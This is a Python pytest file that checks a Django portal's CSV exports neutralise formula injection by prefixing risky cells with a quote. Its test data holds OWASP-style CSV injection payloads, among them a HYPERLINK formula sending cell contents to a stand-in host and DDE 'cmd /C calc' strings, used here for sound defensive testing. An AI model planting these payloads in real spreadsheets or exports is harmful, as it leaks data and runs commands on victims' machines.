"""CSV exports neutralise formulas (CSV injection, issue 15, point 10): a text cell starting with
= + - @, a tab or a carriage return gets a leading single quote; numbers, negative ones too, stay
numbers. Every CSV goes through `tenants.exports.csv_response`."""

from __future__ import annotations

import csv
import datetime
import io
import re
from decimal import Decimal
from pathlib import Path

import pytest
from django.test import Client

from tenants import exports
from usage import services as usage_services
from usage.measures import UsageReading

T0 = datetime.datetime(2026, 11, 1, 10, 0, tzinfo=datetime.UTC)
# Payloads from OWASP's CSV injection page and their kin.
RISKY = [
    '=HYPERLINK("http://evil.example/?"&A1,"Click")',
    "+1+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
]


@pytest.mark.parametrize("text", RISKY)
def test_text_that_a_spreadsheet_would_run_gets_a_leading_quote(text):
    assert exports.spreadsheet_cell(text) == "'" + text


@pytest.mark.parametrize(
    ("value", "cell"),
    [
        (-5, -5),
        (Decimal("-1.5"), Decimal("-1.5")),
        (-0.25, -0.25),
        (42, 42),
        ("gpu-cluster", "gpu-cluster"),
        ("a=b", "a=b"),
        ("-5", "'-5"),  # text, not a number: a name that looks like one is still quoted
        (None, ""),
        ("", ""),
    ],
)
def test_numbers_stay_numbers_and_harmless_text_is_untouched(value, cell):
    assert exports.spreadsheet_cell(value) == cell


@pytest.mark.django_db
def test_the_usage_csv_quotes_a_partition_name_read_from_a_cluster(k8s_world):
    """Partition names come back from the clusters (YARN's node labels as the ResourceManager reports
    them), so the export cannot trust them."""
    w = k8s_world
    for index, partition in enumerate(RISKY):
        usage_services.usage_record(
            cluster=w.cluster,
            time=T0 + datetime.timedelta(seconds=index),
            readings=[UsageReading(w.dev1.pk, {"gpu_used": 1, "gpu_allocated": 1}, partition=partition)],
        )
    browser = Client()
    browser.force_login(w.admin)
    response = browser.get(f"/tenants/{w.dev1.pk}/usage.csv?range=1h&at={int(T0.timestamp()) + 60}")
    assert response.status_code == 200
    rows = list(csv.reader(io.StringIO(response.content.decode(), newline="")))
    assert rows[0] == ["time", "cluster", "partition", "metric", "value"]
    partitions = {row[2] for row in rows[1:]}
    assert partitions == {"'" + text for text in RISKY}
    for row in rows[1:]:
        assert not row[2].startswith(exports.FORMULA_TRIGGERS)
        assert row[4] == "1"  # the figure is a plain number


def test_every_csv_in_the_product_is_written_by_the_one_helper():
    """A CSV writer outside tenants/exports.py would skip the neutralising."""
    root = Path(__file__).resolve().parents[2]
    writers = [
        str(path.relative_to(root))
        for folder in ("tenants", "provisioning", "identity", "portal")
        for path in (root / folder).rglob("*.py")
        if re.search(r"\bcsv\.(writer|DictWriter)\b|text/(csv|tab-separated-values)", path.read_text())
    ]
    assert writers == ["tenants/exports.py"]
